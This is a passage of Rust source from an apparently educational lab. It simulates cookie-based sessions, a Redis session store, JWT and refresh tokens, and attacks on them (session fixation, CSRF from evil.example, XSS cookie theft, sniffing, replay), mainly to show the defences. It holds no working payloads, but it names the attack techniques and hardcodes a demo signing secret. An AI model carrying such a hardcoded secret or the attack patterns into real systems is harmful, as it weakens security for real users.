//! The cookies lab's sessions part: an app that signs people in, its session store (a
//! Redis-like lane, real RESP commands and replies), the browsers that hold the cookie (a laptop,
//! a phone, an attacker's), and the attacks on it: session fixation, CSRF from another site, XSS
//! reading document.cookie, a network attacker reading plain http, and the replay of a stolen
//! cookie. The same app can keep a signed token (a JWT, HS256 with the JWT lab's HMAC) in the
//! cookie instead of a session id, to show what logout can and cannot do then.

use super::jar::{self, Api, Context, Jar, Outcome, Policy, Url};
use super::passwords::{salt_of, Scheme};
use crate::base64url;
use crate::cache::scenario::{parse_time, time_text};
use crate::http::Message;
use crate::jwt::alg::Alg;
use crate::rng::SplitMix64;
use crate::scenario::FieldError;
use crate::trace::{Actor, ActorState, Field, SimTime, SpecRef, StateChange, Step, StepKind, Trace, Var};
use serde::{Deserialize, Serialize};

pub mod limits {
    pub const EVENTS_TEXT: usize = 6000;
    pub const EVENTS: usize = 40;
    pub const COOKIE: usize = 300;
    /// Timeouts and token lifetimes: at most 30 days.
    pub const TTL_S: u64 = 30 * 86_400;
}

/// What the cookie carries.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
#[serde(rename_all = "kebab-case")]
pub enum Mode {
    /// A random session id; the session lives in the server's store.
    #[default]
    Sessions,
    /// A signed token (a JWT) holding the user; the server keeps nothing.
    Jwt,
    /// A short-lived signed access token, and a long-lived refresh token the server stores
    /// (hashed), rotates at each use and can revoke.
    Tokens,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct SessionScenario {
    /// One event a line (see [`parse_events`]).
    pub events: String,
    pub mode: Mode,
    /// The attributes the app puts on its cookie, e.g. `Path=/; Secure; HttpOnly; SameSite=Lax`.
    pub cookie: String,
    /// A session ends after this long without a request (the store's TTL, renewed by each one).
    pub idle_s: u64,
    /// And this long after sign-in, whatever happens.
    pub absolute_s: u64,
    /// A new session id at sign-in (the fix for session fixation).
    pub rotate_on_login: bool,
    /// The app's forms carry a CSRF token tied to the session, and state changes need it.
    pub csrf_token: bool,
    /// The app is served over https (false: plain http, readable on the network).
    pub https: bool,
    /// The signed token's lifetime (Jwt and Tokens modes).
    pub token_ttl_s: u64,
    /// How the app stores passwords (`argon2id m=19456 t=2 p=1`; see `Scheme::parse`).
    pub hash: String,
    /// How long a password reset link works.
    pub reset_ttl_s: u64,
    /// How long a refresh token works (Tokens mode).
    pub refresh_ttl_s: u64,
}

impl Default for SessionScenario {
    fn default() -> Self {
        SessionScenario {
            events: "laptop: login alice\nlaptop: get /account\nphone: login alice\nwait 10m\nlaptop: get /account\nlaptop: logout\nlaptop: get /account\nphone: get /account\nphone: logout everywhere".into(),
            mode: Mode::Sessions,
            cookie: "Path=/; Secure; HttpOnly; SameSite=Lax".into(),
            idle_s: 1800,
            absolute_s: 12 * 3600,
            rotate_on_login: true,
            csrf_token: true,
            https: true,
            token_ttl_s: 900,
            hash: Scheme::RECOMMENDED[0].text(),
            reset_ttl_s: 900,
            refresh_ttl_s: 14 * 86_400,
        }
    }
}

/// A browser.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Who {
    Laptop,
    Phone,
    Attacker,
}

impl Who {
    fn name(self) -> &'static str {
        match self {
            Who::Laptop => "laptop",
            Who::Phone => "phone",
            Who::Attacker => "attacker",
        }
    }
}

/// Which password a sign-in uses.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attempt {
    /// The one Alice has now (the new one after a reset).
    Right,
    /// A guess that is not it.
    Wrong,
    /// The one she registered with (after a reset, no longer hers).
    Old,
}

/// The passwords a sessions scenario uses: secrets, kept out of links unless asked.
#[derive(Debug, Clone, Copy)]
pub struct Passwords<'a> {
    /// Alice's password at registration.
    pub password: &'a str,
    /// The one she sets with a reset link.
    pub new_password: &'a str,
}

/// The password tried by `login USER wrong`.
pub const WRONG_GUESS: &str = "letmein1";

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Event {
    /// Create the account (POST /register with the password).
    Register(Who, String),
    Login(Who, String, Attempt),
    /// Ask for a password reset link by e-mail.
    Reset(Who, String),
    /// Open the last reset link and set the new password.
    UseReset(Who),
    /// Trade the refresh token for a new access token (Tokens mode).
    Refresh(Who),
    Get(Who, String),
    Post(Who, String),
    Logout(Who),
    LogoutEverywhere(Who),
    Wait(u64),
    /// A page on evil.example makes the laptop's browser send this (POST: a form; GET: a link).
    Csrf { post: bool, path: String },
    /// Script injected into the app's page on the laptop reads document.cookie and sends it away.
    Xss,
    /// Someone on the laptop's network reads its last request to the app.
    Sniff,
    /// The attacker sends what was stolen from their own browser.
    Replay,
    /// The attacker gets a session before sign-in and plants its id in the laptop's browser.
    Fixate,
    /// The store's accounts leak (a backup, an injection): what the attacker has then.
    Leak,
}

fn shown(text: &str) -> String {
    crate::export::visible(&text.chars().take(40).collect::<String>())
}

fn path(p: &str) -> Result<String, String> {
    if !p.starts_with('/') || p.len() > 100 || !p.chars().all(|c| c.is_ascii_graphic()) {
        return Err(format!("“{}” is not a path: write it as /account", shown(p)));
    }
    Ok(p.to_string())
}

/// One event a line: `[laptop|phone|attacker:] register USER`, `… login USER [wrong|old]`,
/// `… get PATH`, `… post PATH`, `… logout`, `… logout everywhere`, `… refresh`,
/// `… reset USER`, `… use reset link`; `wait TIME`; `csrf POST PATH`, `csrf GET PATH`; `xss`;
/// `sniff`; `replay`; `fixate`; `leak`. `#` starts a comment line.
pub fn parse_events(text: &str) -> Result<Vec<Event>, Vec<String>> {
    crate::http::read_lines(text, true, (limits::EVENTS, "events"), Some("add at least one event, e.g. laptop: login alice"), |line, _, _| event(line))
}

fn event(line: &str) -> Result<Event, String> {
    let (who, rest) = match line.split_once(':') {
        Some((w, r)) if ["laptop", "phone", "attacker"].contains(&w.trim()) => (
            match w.trim() {
                "phone" => Who::Phone,
                "attacker" => Who::Attacker,
                _ => Who::Laptop,
            },
            r.trim(),
        ),
        _ => (Who::Laptop, line),
    };
    let words: Vec<&str> = rest.split_whitespace().collect();
    let user = |user: &str| {
        if user.len() > 20 || !user.chars().all(|c| c.is_ascii_alphanumeric()) {
            return Err(format!("“{}” is not a user name: letters and digits, at most 20", shown(user)));
        }
        Ok(user.to_string())
    };
    match words.as_slice() {
        ["register", u] => Ok(Event::Register(who, user(u)?)),
        ["login", u] => Ok(Event::Login(who, user(u)?, Attempt::Right)),
        ["login", u, "wrong"] => Ok(Event::Login(who, user(u)?, Attempt::Wrong)),
        ["login", u, "old"] => Ok(Event::Login(who, user(u)?, Attempt::Old)),
        ["reset", u] => Ok(Event::Reset(who, user(u)?)),
        ["use", "reset", "link"] => Ok(Event::UseReset(who)),
        ["refresh"] => Ok(Event::Refresh(who)),
        ["get", p] => Ok(Event::Get(who, path(p)?)),
        ["post", p] => Ok(Event::Post(who, path(p)?)),
        ["logout"] => Ok(Event::Logout(who)),
        ["logout", "everywhere"] => Ok(Event::LogoutEverywhere(who)),
        ["wait", t] => Ok(Event::Wait(parse_time(t)?)),
        ["csrf", m, p] if m.eq_ignore_ascii_case("post") || m.eq_ignore_ascii_case("get") => Ok(Event::Csrf { post: m.eq_ignore_ascii_case("post"), path: path(p)? }),
        ["xss"] => Ok(Event::Xss),
        ["sniff"] => Ok(Event::Sniff),
        ["replay"] => Ok(Event::Replay),
        ["fixate"] => Ok(Event::Fixate),
        ["leak"] => Ok(Event::Leak),
        _ => Err(format!(
            "“{}” is not an event: [laptop|phone|attacker:] register USER, login USER [wrong|old], get PATH, post PATH, logout, logout everywhere, refresh, reset USER, use reset link; wait TIME; csrf POST PATH; xss; sniff; replay; fixate; leak",
            shown(line)
        )),
    }
}

impl SessionScenario {
    pub fn validate(&self) -> Vec<FieldError> {
        let mut errors = Vec::new();
        if self.events.len() > limits::EVENTS_TEXT {
            errors.push(FieldError::new("sessions_events", format!("at most {} characters", limits::EVENTS_TEXT)));
        } else if let Err(p) = parse_events(&self.events) {
            errors.push(FieldError::new("sessions_events", p.join("; ")));
        }
        if self.cookie.len() > limits::COOKIE || self.cookie.contains(['\r', '\n']) {
            errors.push(FieldError::new("sessions_cookie", format!("one line of at most {} characters", limits::COOKIE)));
        }
        if let Err(e) = Scheme::parse(&self.hash) {
            errors.push(FieldError::new("sessions_hash", e));
        }
        for (key, v) in [("sessions_idle", self.idle_s), ("sessions_absolute", self.absolute_s), ("sessions_token_ttl", self.token_ttl_s), ("sessions_reset_ttl", self.reset_ttl_s), ("sessions_refresh_ttl", self.refresh_ttl_s)] {
            if v == 0 || v > limits::TTL_S {
                errors.push(FieldError::new(key, "from 1s to 30d"));
            }
        }
        errors
    }
}

/// The app's signing secret for tokens and CSRF tokens (a demonstration value, shown).
const SECRET: &[u8] = b"app.example demo secret: 32 bytes";
const ONE_WAY_US: u64 = 25_000;
const STORE_US: u64 = 500;

#[derive(Debug, Clone, PartialEq, Eq)]
struct Key {
    name: String,
    value: String,
    /// Seconds since the start; None: no expiry.
    expires: Option<u64>,
}

struct App {
    s: SessionScenario,
    t: Trace,
    rng: SplitMix64,
    at: u64,
    jars: [Jar; 3],
    store: Vec<Key>,
    /// What the attacker has stolen: a cookie pair.
    stolen: Option<(String, String)>,
    /// The laptop's last request to the app, as bytes, and whether it went over https.
    last_laptop: Option<Vec<u8>>,
    store_actor: Option<usize>,
    evil_actor: Option<usize>,
    /// References for the answer being written (the JWT lab's link to a token just issued).
    answer_spec: Vec<SpecRef>,
    scheme: Scheme,
    /// The password Alice has now, and the one she set at first.
    current: String,
    first: String,
    new_password: String,
    /// Whether the scenario registers anyone (if not, sign-in takes any password).
    users_table: bool,
    /// The last reset link's token mailed to Alice, and one waiting to be sent.
    mail: Option<String>,
    outbox: Option<(Who, String, String)>,
    /// A password hash is being computed elsewhere (a worker); the run stops there.
    pending: bool,
}

/// The answer while a password hash is still being computed.
const PENDING: (u16, &str) = (0, "");

/// A token's SHA-256 in hex, as the store keeps it (the same function as an unsalted password).
fn sha_hex(text: &str) -> String {
    super::passwords::hash_fast(Scheme::Sha256, text).unwrap_or_default()
}

fn field(name: impl Into<String>, value: impl Into<String>, note: impl Into<String>) -> Field {
    Field { name: name.into(), value: value.into(), bytes: None, note: note.into(), points_to: None }
}

/// A Redis command as RESP, the protocol's real encoding.
fn resp(args: &[&str]) -> Vec<u8> {
    let mut out = format!("*{}\r\n", args.len()).into_bytes();
    for a in args {
        out.extend_from_slice(format!("${}\r\n{a}\r\n", a.len()).as_bytes());
    }
    out
}

enum Reply {
    Ok,
    Nil,
    Bulk(String),
    Int(i64),
    Array(Vec<String>),
}

fn resp_reply(r: &Reply) -> Vec<u8> {
    match r {
        Reply::Ok => b"+OK\r\n".to_vec(),
        Reply::Nil => b"$-1\r\n".to_vec(),
        Reply::Bulk(s) => format!("${}\r\n{s}\r\n", s.len()).into_bytes(),
        Reply::Int(n) => format!(":{n}\r\n").into_bytes(),
        Reply::Array(v) => {
            let mut out = format!("*{}\r\n", v.len()).into_bytes();
            for s in v {
                out.extend_from_slice(format!("${}\r\n{s}\r\n", s.len()).as_bytes());
            }
            out
        }
    }
}

fn reply_text(r: &Reply) -> String {
    match r {
        Reply::Ok => "OK".into(),
        Reply::Nil => "(nil)".into(),
        Reply::Bulk(s) => s.clone(),
        Reply::Int(n) => format!("(integer) {n}"),
        Reply::Array(v) if v.is_empty() => "(empty array)".into(),
        Reply::Array(v) => v.join(", "),
    }
}

/// The user a session or token belongs to, and how it was found.
enum Identity {
    User(String, String),
    Nobody(String),
}

impl App {
    fn now(&self) -> u64 {
        self.at / 1_000_000
    }

    fn origin(&self) -> String {
        format!("{}://app.example", if self.s.https { "https" } else { "http" })
    }

    fn url(&self, path: &str) -> Url {
        Url::parse(&format!("{}{path}", self.origin())).unwrap_or(Url { scheme: "https".into(), host: "app.example".into(), port: None, path: "/".into() })
    }

    fn cookie_name(&self) -> &'static str {
        match self.s.mode {
            Mode::Sessions => "sid",
            Mode::Jwt | Mode::Tokens => "token",
        }
    }

    fn device(who: Who) -> usize {
        match who {
            Who::Laptop => 0,
            Who::Phone => 1,
            Who::Attacker => 2,
        }
    }

    fn actor_of(&mut self, who: Who) -> usize {
        let id = who.name();
        if let Some(i) = self.t.actors.iter().position(|a| a.id == id) {
            return i;
        }
        let (name, detail) = match who {
            Who::Laptop => ("Alice's laptop", "a browser"),
            Who::Phone => ("Alice's phone", "another browser"),
            Who::Attacker => ("Attacker", "their own browser"),
        };
        self.t.actors.push(Actor { id: id.into(), name: name.into(), detail: detail.into() });
        self.t.actors.len() - 1
    }

    fn jar_state(&self, who: Who) -> ActorState {
        let jar = &self.jars[Self::device(who)];
        let n = jar.cookies.len();
        ActorState {
            name: format!("{n} cookie{}", if n == 1 { "" } else { "s" }),
            vars: jar.cookies.iter().map(|c| Var { name: format!("{} · {}{}", c.name, c.domain, c.path), value: short(&c.value) }).collect(),
        }
    }

    fn store_state(&self) -> ActorState {
        let now = self.now();
        let n = self.store.len();
        ActorState {
            name: format!("{n} key{}", if n == 1 { "" } else { "s" }),
            vars: self
                .store
                .iter()
                .map(|k| Var { name: k.name.clone(), value: format!("{} · {}", k.value, k.expires.map(|e| format!("TTL {}", time_text(e.saturating_sub(now)))).unwrap_or_else(|| "no TTL".into())) })
                .collect(),
        }
    }

    fn expire_store(&mut self) {
        let now = self.now();
        self.store.retain(|k| k.expires.is_none_or(|e| e > now));
    }

    fn new_id(&mut self) -> String {
        format!("{:016x}{:016x}", self.rng.next_u64(), self.rng.next_u64())
    }

    fn csrf_for(&self, sid: &str) -> String {
        crate::jwt::sign::hmac(Alg::HS256, SECRET, format!("csrf:{sid}").as_bytes()).iter().take(12).map(|b| format!("{b:02x}")).collect()
    }

    /// Runs Redis commands against the store, as one pipelined message and its replies.
    fn redis(&mut self, commands: Vec<Vec<String>>, why: &str) -> Vec<Reply> {
        if commands.is_empty() {
            return Vec::new();
        }
        self.expire_store();
        let store = match self.store_actor {
            Some(i) => i,
            None => {
                self.t.actors.push(Actor { id: "store".into(), name: "Store".into(), detail: "Redis: sessions, accounts, tokens".into() });
                self.store_actor = Some(self.t.actors.len() - 1);
                self.t.actors.len() - 1
            }
        };
        let before = self.store_state();
        let now = self.now();
        let mut bytes = Vec::new();
        let mut fields = Vec::new();
        let mut replies = Vec::new();
        for c in &commands {
            let args: Vec<&str> = c.iter().map(String::as_str).collect();
            let at = bytes.len();
            bytes.extend(resp(&args));
            fields.push(Field { name: c[0].clone(), value: args.join(" "), bytes: Some(crate::trace::ByteRange::new(at, bytes.len())), note: String::new(), points_to: None });
            let reply = match args.as_slice() {
                ["SET", k, v, "EX", secs] => {
                    self.store.retain(|x| x.name != *k);
                    self.store.push(Key { name: k.to_string(), value: v.to_string(), expires: Some(now + secs.parse::<u64>().unwrap_or(0)) });
                    Reply::Ok
                }
                ["SET", k, v] => {
                    self.store.retain(|x| x.name != *k);
                    self.store.push(Key { name: k.to_string(), value: v.to_string(), expires: None });
                    Reply::Ok
                }
                ["GET", k] => self.store.iter().find(|x| x.name == *k).map(|x| Reply::Bulk(x.value.clone())).unwrap_or(Reply::Nil),
                ["EXPIRE", k, secs] => match self.store.iter_mut().find(|x| x.name == *k) {
                    Some(x) => {
                        x.expires = Some(now + secs.parse::<u64>().unwrap_or(0));
                        Reply::Int(1)
                    }
                    None => Reply::Int(0),
                },
                ["DEL", keys @ ..] => {
                    let n = self.store.len();
                    self.store.retain(|x| !keys.contains(&x.name.as_str()));
                    Reply::Int((n - self.store.len()) as i64)
                }
                ["SADD", k, m] => {
                    let set = match self.store.iter_mut().find(|x| x.name == *k) {
                        Some(x) => x,
                        None => {
                            self.store.push(Key { name: k.to_string(), value: String::new(), expires: None });
                            self.store.last_mut().expect("just pushed")
                        }
                    };
                    let mut members: Vec<&str> = set.value.split(' ').filter(|s| !s.is_empty()).collect();
                    let added = !members.contains(m);
                    if added {
                        members.push(m);
                    }
                    set.value = members.join(" ");
                    Reply::Int(added as i64)
                }
                ["SREM", k, m] => {
                    let mut removed = 0;
                    if let Some(x) = self.store.iter_mut().find(|x| x.name == *k) {
                        let members: Vec<&str> = x.value.split(' ').filter(|s| !s.is_empty() && s != m).collect();
                        removed = (x.value.split(' ').filter(|s| !s.is_empty()).count() != members.len()) as i64;
                        x.value = members.join(" ");
                    }
                    self.store.retain(|x| !(x.name == *k && x.value.is_empty()));
                    Reply::Int(removed)
                }
                ["SMEMBERS", k] => Reply::Array(self.store.iter().find(|x| x.name == *k).map(|x| x.value.split(' ').filter(|s| !s.is_empty()).map(String::from).collect()).unwrap_or_default()),
                _ => Reply::Nil,
            };
            replies.push(reply);
        }
        let label = commands.iter().map(|c| c[0].as_str()).collect::<Vec<_>>().join(" · ");
        let app = 1;
        self.t.steps.push(Step { at: SimTime(self.at), arrives: Some(SimTime(self.at + STORE_US)), kind: StepKind::Message, from: app, to: store, label: label.clone(), fields, bytes, bytes_label: "Redis commands (RESP)".into(), states: Vec::new(), explanation: format!("The app asks its session store: {why}. Redis's own protocol, RESP: each command an array of strings."), spec: vec![SpecRef { document: "Redis".into(), section: String::new(), title: "RESP protocol".into(), url: "https://redis.io/docs/latest/develop/reference/protocol-spec/".into() }] });
        self.at += STORE_US;
        let mut bytes = Vec::new();
        let mut fields = Vec::new();
        for (c, r) in commands.iter().zip(&replies) {
            let at = bytes.len();
            bytes.extend(resp_reply(r));
            fields.push(Field { name: c[0].clone(), value: reply_text(r), bytes: Some(crate::trace::ByteRange::new(at, bytes.len())), note: String::new(), points_to: None });
        }
        let after = self.store_state();
        self.t.steps.push(Step { at: SimTime(self.at), arrives: Some(SimTime(self.at + STORE_US)), kind: StepKind::Message, from: store, to: app, label: format!("{} repl{}", replies.len(), if replies.len() == 1 { "y" } else { "ies" }), fields, bytes, bytes_label: "Redis replies (RESP)".into(), states: vec![StateChange { actor: store, before, after }], explanation: "The store's replies. Each key's TTL counts down; when it reaches zero Redis deletes the key, and the session is over.".into(), spec: Vec::new() });
        self.at += STORE_US;
        replies
    }

    fn token_for(&self, user: &str) -> String {
        let iat = crate::cookies::run::START + self.now() as i64;
        let header = base64url::encode(br#"{"alg":"HS256","typ":"JWT"}"#);
        let payload = base64url::encode(format!(r#"{{"sub":"{user}","iat":{iat},"exp":{}}}"#, iat + self.s.token_ttl_s as i64).as_bytes());
        let input = format!("{header}.{payload}");
        let sig = crate::jwt::sign::hmac(Alg::HS256, SECRET, input.as_bytes());
        format!("{input}.{}", base64url::encode(&sig))
    }

    /// Who the request's cookie says it is, checked against the store or the signature.
    fn identify(&mut self, value: Option<&str>) -> Identity {
        let Some(value) = value else { return Identity::Nobody("no session cookie came with the request".into()) };
        match self.s.mode {
            Mode::Sessions => {
                let key = format!("session:{value}");
                let r = self.redis(vec![vec!["GET".into(), key.clone()]], "is this session id one of ours?");
                let found = match r.first() {
                    Some(Reply::Bulk(v)) => v.clone(),
                    _ => return Identity::Nobody("the store does not know this session id: it expired, was logged out, or was never issued".into()),
                };
                let user = json_str(&found, "user").unwrap_or_default();
                let created = json_num(&found, "created").unwrap_or(0);
                if user.is_empty() {
                    return Identity::Nobody("an anonymous session (nobody has signed in with it)".into());
                }
                if self.now().saturating_sub(created) >= self.s.absolute_s {
                    self.redis(vec![vec!["DEL".into(), key], vec!["SREM".into(), format!("user:{user}:sessions"), value.to_string()]], "the session is older than the absolute timeout: end it");
                    return Identity::Nobody(format!("the session reached its absolute timeout, {} after sign-in", time_text(self.s.absolute_s)));
                }
                self.redis(vec![vec!["EXPIRE".into(), key, self.s.idle_s.to_string()]], "renew the idle timeout");
                Identity::User(user, format!("session {}… found in the store", &value[..value.len().min(8)]))
            }
            Mode::Jwt | Mode::Tokens => {
                let parts: Vec<&str> = value.split('.').collect();
                let [h, p, sig] = parts.as_slice() else { return Identity::Nobody("the token is not three parts".into()) };
                let expected = crate::jwt::sign::hmac(Alg::HS256, SECRET, format!("{h}.{p}").as_bytes());
                if base64url::decode(sig).ok().as_deref() != Some(expected.as_slice()) {
                    return Identity::Nobody("the token's signature does not verify".into());
                }
                let payload = base64url::decode(p).ok().and_then(|b| String::from_utf8(b).ok()).unwrap_or_default();
                let exp = json_num(&payload, "exp").unwrap_or(0) as i64;
                let now = crate::cookies::run::START + self.now() as i64;
                if now >= exp {
                    return Identity::Nobody("the token has expired (exp is past)".into());
                }
                Identity::User(json_str(&payload, "sub").unwrap_or_default(), format!("the HS256 signature verifies and exp is {} away; no store was asked", time_text((exp - now) as u64)))
            }
        }
    }

    /// One request from a browser to the app and its answer: the jar picks the cookies, the app
    /// decides, the answer's Set-Cookie lands in the jar.
    fn request(&mut self, who: Who, method: &str, path: &str, ctx: Context, body: Option<Vec<(String, String)>>, what: &str) -> (u16, String) {
        let from = self.actor_of(who);
        let url = self.url(path);
        let dev = Self::device(who);
        let now_s = crate::cookies::run::START + self.now() as i64;
        self.jars[dev].expire(now_s);
        let decisions = self.jars[dev].decide(&url, &ctx, Api::Http, Policy::default(), now_s);
        let header = self.jars[dev].header(&decisions);
        let mut m = Message::request(method, path).header("Host", "app.example");
        if let Some(i) = &ctx.initiator {
            m = m.header("Origin", &i.origin());
        }
        if !header.is_empty() {
            m = m.header("Cookie", &header);
        }
        if let Some(b) = &body {
            let pairs: Vec<(&str, &str)> = b.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            m = m.form(&pairs);
        }
        let (bytes, mut fields) = m.encode();
        for d in &decisions {
            let c = &self.jars[dev].cookies[d.index];
            fields.push(field(format!("{} {}", if d.sent { "✔" } else { "✘" }, c.name), if d.sent { "sent" } else { "not sent" }, format!("{} ({})", d.why, d.rule)));
        }
        if who == Who::Laptop {
            self.last_laptop = Some(bytes.clone());
        }
        let label = format!("{method} {path}");
        let over = if self.s.https { "" } else { " It goes over plain http: anyone on the network path can read it, cookie and all." };
        self.t.steps.push(Step { at: SimTime(self.at), arrives: Some(SimTime(self.at + ONE_WAY_US)), kind: StepKind::Message, from, to: 1, label, fields, bytes, bytes_label: "HTTP/1.1 request".into(), states: Vec::new(), explanation: format!("{}.{over}", capitalised(what)), spec: vec![SpecRef::rfc(6265, "5.4", "The Cookie Header")] });
        self.at += ONE_WAY_US;
        let sent = jar::parse_cookie_header(&header);
        let ours = sent.iter().find(|(n, _)| n == self.cookie_name()).map(|(_, v)| v.clone());
        let refresh = sent.iter().find(|(n, _)| n == "refresh").map(|(_, v)| v.clone());
        let (status, text, sets, note) = self.handle(method, path, ours.as_deref(), refresh.as_deref(), body.as_deref().unwrap_or(&[]), ctx.cross_site(&url));
        if self.pending {
            return (PENDING.0, PENDING.1.into());
        }
        // The app's answer, with its Set-Cookie.
        let before = self.jar_state(who);
        let mut m = Message::response(status, crate::http::reason(status));
        for set in &sets {
            m = m.header("Set-Cookie", set);
        }
        let m = m.body("text/plain; charset=utf-8", text.clone());
        let (bytes, mut fields) = m.encode();
        for set in &sets {
            let r = self.jars[dev].set(set, &url, &Context::typed(), Api::Http, Policy::default(), now_s);
            let verdict = match r.outcome {
                Outcome::Stored | Outcome::Replaced => "stored",
                Outcome::Deleted { .. } => "deleted",
                Outcome::Refused => "refused",
            };
            fields.push(field("the browser", verdict, r.checks.last().map(|c| c.text.clone()).unwrap_or_default()));
        }
        let after = self.jar_state(who);
        self.t.steps.push(Step { at: SimTime(self.at), arrives: Some(SimTime(self.at + ONE_WAY_US)), kind: StepKind::Message, from: 1, to: from, label: format!("{status} {}", crate::http::reason(status)), fields, bytes, bytes_label: "HTTP/1.1 response".into(), states: vec![StateChange { actor: from, before, after }], explanation: note, spec: std::mem::take(&mut self.answer_spec) });
        self.at += ONE_WAY_US;
        (status, text)
    }

    /// The app: what it answers, the cookie it sets, and why.
    fn handle(&mut self, method: &str, path: &str, cookie: Option<&str>, refresh: Option<&str>, body: &[(String, String)], cross_site: bool) -> (u16, String, Vec<String>, String) {
        let attrs = self.s.cookie.trim().to_string();
        let set = |name: &str, value: &str| if attrs.is_empty() { format!("{name}={value}") } else { format!("{name}={value}; {attrs}") };
        let clear = |name: &str| if attrs.is_empty() { format!("{name}=; Max-Age=0") } else { format!("{name}=; Max-Age=0; {attrs}") };
        let name = self.cookie_name();
        let form = |k: &str| body.iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
        match (method, path.split('?').next().unwrap_or(path)) {
            ("POST", "/register") => {
                let user = form("user").unwrap_or_default();
                let password = form("password").unwrap_or_default();
                let key = format!("user:{user}");
                let r = self.redis(vec![vec!["GET".into(), key.clone()]], "is the name taken?");
                if matches!(r.first(), Some(Reply::Bulk(_))) {
                    return (409, "That name is taken".into(), Vec::new(), format!("409: {user} already has an account."));
                }
                let Some(stored) = self.store_password(&password) else { return (PENDING.0, String::new(), Vec::new(), String::new()) };
                let stored = match stored {
                    Ok(s) => s,
                    Err(e) => return (500, "The password could not be stored".into(), Vec::new(), format!("500: {e}.")),
                };
                self.redis(vec![vec!["SET".into(), key, stored]], "store the account: the password's hash, never the password");
                (201, format!("Account {user} created"), Vec::new(), format!("201: {user} has an account. The store keeps the string the hash function made ({}), not the password: to check a sign-in, the app hashes what is typed the same way and compares.", self.scheme.name()))
            }
            ("POST", "/login") => {
                let user = form("user").unwrap_or_default();
                let mut checked = "This scenario registers nobody, so the app does not check the password (add `register alice` first to see it stored and checked). ";
                if self.users_table {
                    checked = "";
                    let r = self.redis(vec![vec!["GET".into(), format!("user:{user}")]], "find the account and its password hash");
                    let Some(Reply::Bulk(stored)) = r.first() else {
                        return (401, "Wrong user name or password".into(), Vec::new(), format!("401: no account is called {user}. The answer is word for word the one a wrong password gets, so the form does not tell an attacker which names exist."));
                    };
                    let stored = stored.clone();
                    match self.check_password(&stored, &form("password").unwrap_or_default()) {
                        None => return (PENDING.0, String::new(), Vec::new(), String::new()),
                        Some(Err(e)) => return (500, "Sign-in failed".into(), Vec::new(), format!("500: the password could not be checked: {e}.")),
                        Some(Ok(false)) => return (401, "Wrong user name or password".into(), Vec::new(), format!("401: what was typed, hashed with the salt and parameters read from {user}'s stored string, is not the stored hash. The app learns no more than that, and neither does the person signing in.")),
                        Some(Ok(true)) => {}
                    }
                }
                match self.s.mode {
                    Mode::Jwt | Mode::Tokens => {
                        let token = self.token_for(&user);
                        // The JWT lab's link, written here as its JSON (making the lab's own
                        // scenario would link its presets' cryptography into this page). The
                        // app's secret stays out of it, as secrets do.
                        let iat = crate::cookies::run::START + self.now() as i64;
                        let json = serde_json::json!({ "v": 1, "token": token, "public_key": "", "secret": "", "allowed": ["HS256"], "now": iat });
                        let link = format!("#/jwt?s={}&step=1", base64url::encode(json.to_string().as_bytes()));
                        self.answer_spec.push(SpecRef::lab("JWT", "this token, decoded", &link));
                        if self.s.mode == Mode::Tokens {
                            let cookie = self.new_refresh(&user, "sign-in: store the refresh token's hash, and list it under the user");
                            return (200, format!("Signed in as {user}"), vec![set(name, &token), cookie], format!("{checked}The password is right, so the app issues two tokens. An access token (a JWT, HS256) with an exp {} away: every request shows it and the app checks only its signature, asking no store. And a refresh token: a random value, stored only as its SHA-256, sent back only to /auth (its cookie's Path), good for {} and for one use.", time_text(self.s.token_ttl_s), time_text(self.s.refresh_ttl_s)));
                        }
                        (200, format!("Signed in as {user}"), vec![set(name, &token)], format!("{checked}The password is right, so the app signs a token: {{\"sub\":\"{user}\"}} with an exp {} away, HMAC-SHA-256 with its secret. The cookie carries the token itself; the app keeps nothing, and will trust any copy of it until exp.", time_text(self.s.token_ttl_s)))
                    }
                    Mode::Sessions => {
                        let now = self.now();
                        let existing = cookie.map(String::from);
                        let (sid, note) = match (&existing, self.s.rotate_on_login) {
                            (Some(old), false) => (old.clone(), format!("The app keeps the session id the browser already had ({}…) and marks it as {user}'s: whoever else knows that id is now signed in as {user} too (session fixation).", &old[..old.len().min(8)])),
                            (Some(old), true) => {
                                let old = old.clone();
                                self.redis(vec![vec!["DEL".into(), format!("session:{old}")]], "sign-in: forget the session id the browser came with");
                                (self.new_id(), "The app throws away the id the browser came with and issues a new one (the fix for session fixation: an id someone planted is worth nothing after sign-in).".into())
                            }
                            (None, _) => (self.new_id(), "The password is right, so the app creates a session: a random id, which is all the cookie carries.".into()),
                        };
                        let value = format!("{{\"user\":\"{user}\",\"created\":{now}}}");
                        self.redis(vec![vec!["SET".into(), format!("session:{sid}"), value, "EX".into(), self.s.idle_s.to_string()], vec!["SADD".into(), format!("user:{user}:sessions"), sid.clone()]], "sign-in: store the new session, and list it under the user");
                        (200, format!("Signed in as {user}"), vec![set(name, &sid)], format!("{checked}{note}"))
                    }
                }
            }
            ("POST", "/auth/refresh") => {
                let clear_refresh = self.refresh_cookie("", true);
                let Some(rt) = refresh else {
                    return (401, "Sign in again".into(), Vec::new(), "401: no refresh token came with the request: it expired, was never issued, or the browser dropped it.".into());
                };
                let h = sha_hex(rt)[..32].to_string();
                let r = self.redis(vec![vec!["GET".into(), format!("refresh:{h}")]], "is this refresh token one of ours? (looked up by its hash)");
                let Some(Reply::Bulk(v)) = r.first() else {
                    return (401, "Sign in again".into(), vec![clear_refresh], "401: the store does not know this refresh token: it expired, was revoked (logout, a password reset), or was never issued.".into());
                };
                let user = json_str(v, "user").unwrap_or_default();
                if v.contains("\"used\":true") {
                    let revoked = self.revoke_all(&user, "refresh", "reuse detected: revoke every refresh token of the user");
                    return (401, "Refresh token reused: signed out everywhere".into(), vec![clear_refresh], format!("401: this refresh token was traded for a new one already. A second use means two parties hold it, one of them a thief, and the app cannot tell which: it revokes every refresh token of {user} ({revoked}), so everyone must sign in again (refresh token rotation, RFC 9700 §4.14.2). Access tokens already issued still work until their exp, at most {} away.", time_text(self.s.token_ttl_s)));
                }
